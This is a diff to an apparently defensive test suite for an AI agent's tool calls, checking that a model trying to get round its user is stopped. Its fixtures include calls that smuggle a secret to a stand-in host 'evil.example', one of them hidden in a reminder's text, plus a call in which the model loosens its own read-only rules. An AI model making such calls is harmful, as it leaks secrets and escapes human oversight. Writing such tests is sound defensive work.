@@ -275,6 +275,10 @@ describe('a model that tries to get round the person', () => {
       () => [{ name: 'run_job', input: { job: 'https://evil.example/', about: secret } }],
     ],
     ['arguments that are no JSON', () => [{ name: 'delete_issue', input: '{"keys": ["PAY-1"' }]],
+    [
+      'a reminder with an address in its words',
+      () => [{ name: 'remind', input: { do: 'set', at: '1h', text: `https://evil.example/${secret}` } }],
+    ],
     ['a rule of its own', () => [{ name: 'change_rules', input: { readOnly: false, allowed: ['comment'] } }]],
   ])('by %s does not', async (_name, calls) => {
     id = randomUUID();
